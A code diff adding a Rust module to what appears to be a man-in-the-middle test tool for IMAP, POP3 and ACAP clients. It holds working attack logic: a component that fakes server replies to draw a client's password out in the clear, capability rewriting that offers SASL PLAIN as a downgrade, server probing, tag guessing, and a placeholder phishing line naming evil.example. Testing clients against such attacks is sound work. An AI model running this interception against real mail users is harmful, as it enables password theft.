@@ -1,0 +1,213 @@
+//! What several attacks share: answering logins, probing a server, guessing tags.
+
+use super::{Message, Move, Moves, Relay, Tamper};
+use crate::base::{Protocol, Side, Switches, switch};
+use crate::proto::{Answer, Dialect};
+use crate::tls::Failure;
+use crate::trace::Verb;
+use base64::Engine;
+
+switch!(
+    Middle LOGINS,
+    "logins",
+    Setting,
+    &["relayed", "answered"],
+    &[],
+    "Logins in the clear",
+    "Whether logins go on to the server, which may refuse them before the password is out, or the attacker asks for the password himself."
+);
+
+/// Text that the attacker makes up.
+pub(super) const TEXT: &str = "Your mailbox is locked, see http://evil.example";
+
+/// The tag that comes behind one: its last number plus one, as nearly every client counts.
+pub(super) fn next_tag(tag: &[u8]) -> Vec<u8> {
+    let digits = tag.iter().rev().take_while(|o| o.is_ascii_digit()).count();
+    let (head, number) = tag.split_at(tag.len().saturating_sub(digits));
+    let number: u64 = std::str::from_utf8(number).ok().and_then(|n| n.parse().ok()).unwrap_or_default();
+    [head, number.saturating_add(1).to_string().as_bytes()].concat()
+}
+
+/// Octets of several pieces.
+pub(super) fn line(pieces: &[&[u8]]) -> Vec<u8> {
+    [&pieces.concat()[..], b"\r\n"].concat()
+}
+
+/// A login of the attacker's own making, by PLAIN, as one message.
+pub(super) fn plain(protocol: Protocol, tag: &str, message: &[u8]) -> Vec<u8> {
+    let base64 = base64::engine::general_purpose::STANDARD.encode(message);
+    match protocol {
+        Protocol::Imap => format!("{tag} AUTHENTICATE PLAIN {base64}\r\n").into_bytes(),
+        Protocol::Pop3 => format!("AUTH PLAIN {base64}\r\n").into_bytes(),
+        Protocol::Acap => {
+            let head = format!("{tag} AUTHENTICATE \"PLAIN\" {{{}+}}\r\n", message.len());
+            [head.as_bytes(), message, b"\r\n"].concat()
+        }
+    }
+}
+
+/// A login by the protocol's password command, as one message or two; ACAP has PLAIN only.
+pub(super) fn login(protocol: Protocol, tag: &str, user: &str, password: &str) -> Vec<Vec<u8>> {
+    match protocol {
+        Protocol::Imap => vec![format!("{tag} LOGIN {user} {password}\r\n").into_bytes()],
+        Protocol::Pop3 => {
+            vec![format!("USER {user}\r\n").into_bytes(), format!("PASS {password}\r\n").into_bytes()]
+        }
+        Protocol::Acap => vec![plain(protocol, tag, format!("\0{user}\0{password}").as_bytes())],
+    }
+}
+
+/// Puts an answer to logins in front of a tamper, if the attack is set so.
+pub(super) fn with_logins(
+    switches: &Switches,
+    dialect: &'static Dialect,
+    tamper: Box<dyn Tamper>,
+) -> Box<dyn Tamper> {
+    if switches.get(&LOGINS) == "relayed" {
+        return tamper;
+    }
+    let asker = Asker { dialect, asked: None };
+    Box::new(Stack(Relay::new(vec![Box::new(asker), tamper])))
+}
+
+/// Several tampers as one, nearest to the client first.
+pub(super) struct Stack(pub Relay);
+
+impl Tamper for Stack {
+    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
+        for step in self.0.message(message.from, message.octets) {
+            match step {
+                Move::Deliver(delivery) if delivery.to == message.from => moves.answer(delivery.octets),
+                Move::Deliver(delivery) => moves.onward(delivery.octets, delivery.origin),
+                Move::Close => moves.close(),
+            }
+        }
+    }
+
+    fn handshake(&mut self) -> Option<Failure> {
+        self.0.handshake()
+    }
+
+    fn damages(&mut self, from: Side) -> bool {
+        self.0.damages(from)
+    }
+
+    fn connected(&mut self) {
+        self.0.connected();
+    }
+}
+
+/// Asks a client for its password in the server's stead.
+struct Asker {
+    dialect: &'static Dialect,
+    /// The tag of the exchange that was begun.
+    asked: Option<Vec<u8>>,
+}
+
+impl Tamper for Asker {
+    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
+        if message.from == Side::Server {
+            match offering_plain(self.dialect, message.octets) {
+                Some(octets) => moves.replace(octets),
+                None => moves.pass(),
+            }
+            return;
+        }
+        if let Some(tag) = self.asked.take() {
+            moves.answer((self.dialect.answer)(&tag, Answer::No, "that did not work"));
+            return;
+        }
+        let asked = (self.dialect.command)(message.octets);
+        let no = |tag: &[u8]| (self.dialect.answer)(tag, Answer::No, "that did not work");
+        match asked {
+            Some(asked) if asked.verb == Verb::User => {
+                moves.answer((self.dialect.answer)(&asked.tag, Answer::Ok, "and the password"));
+            }
+            Some(asked) if matches!(asked.verb, Verb::Pass | Verb::Login) => moves.answer(no(&asked.tag)),
+            Some(asked) if asked.verb == Verb::Authenticate && self.initial(message.octets) => {
+                moves.answer(no(&asked.tag));
+            }
+            Some(asked) if asked.verb == Verb::Authenticate => {
+                self.asked = Some(asked.tag);
+                let empty: &[u8] =
+                    if self.dialect.protocol == Protocol::Acap { b"+ \"\"\r\n" } else { b"+ \r\n" };
+                moves.answer(empty.to_vec());
+            }
+            _ => moves.pass(),
+        }
+    }
+
+    fn connected(&mut self) {
+        self.asked = None;
+    }
+}
+
+impl Asker {
+    /// Whether AUTHENTICATE brings its first message along.
+    fn initial(&self, octets: &[u8]) -> bool {
+        let words = octets.split(|&o| o == b' ').filter(|word| !word.is_empty()).count();
+        words > if self.dialect.protocol == Protocol::Pop3 { 2 } else { 3 }
+    }
+}
+
+/// A message whose list offers PLAIN, if it did not.
+fn offering_plain(dialect: &Dialect, octets: &[u8]) -> Option<Vec<u8>> {
+    if dialect.protocol == Protocol::Imap {
+        return None;
+    }
+    let items = (dialect.items)(octets)?;
+    let sasl = items.iter().find(|item| item.split(' ').next() == Some("SASL"));
+    if sasl.is_some_and(|sasl| sasl.split(' ').any(|word| word == "PLAIN")) {
+        return None;
+    }
+    let without = (dialect.without_capabilities)(octets, &|word| word == "SASL");
+    (dialect.with_items)(without.as_deref().unwrap_or(octets), &["SASL PLAIN"])
+}
+
+/// Talks to the server in the clear before the client hears of it: sends one message after the other, each when the one
+/// before is answered, and then lets the greeting through or hangs up.
+pub(super) struct Probe {
+    messages: std::collections::VecDeque<Vec<u8>>,
+    greeting: Option<Vec<u8>>,
+    hangs_up: bool,
+}
+
+impl Probe {
+    /// A conversation of these messages. Tags in it begin with `q`.
+    pub(super) fn boxed(messages: Vec<Vec<u8>>, hangs_up: bool) -> Box<dyn Tamper> {
+        Box::new(Self { messages: messages.into(), greeting: None, hangs_up })
+    }
+}
+
+impl Tamper for Probe {
+    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
+        if message.is_greeting() && !self.messages.is_empty() {
+            self.greeting = Some(message.octets.to_vec());
+        } else if self.greeting.is_none() || message.from == Side::Client {
+            moves.pass();
+            return;
+        } else if !matches!(message.octets.first(), Some(b'q' | b'+' | b'-')) {
+            // Not the answer that is waited for.
+            return;
+        }
+        if let Some(next) = self.messages.pop_front() {
+            moves.answer(next);
+        } else if self.hangs_up {
+            moves.close();
+        } else if let Some(greeting) = self.greeting.take() {
+            moves.release(greeting);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn tags_are_guessed_as_clients_count() {
+        assert_eq!(next_tag(b"a1"), b"a2");
+        assert_eq!(next_tag(b"A099"), b"A100");
+        assert_eq!(next_tag(b"x"), b"x1");
+    }
+}
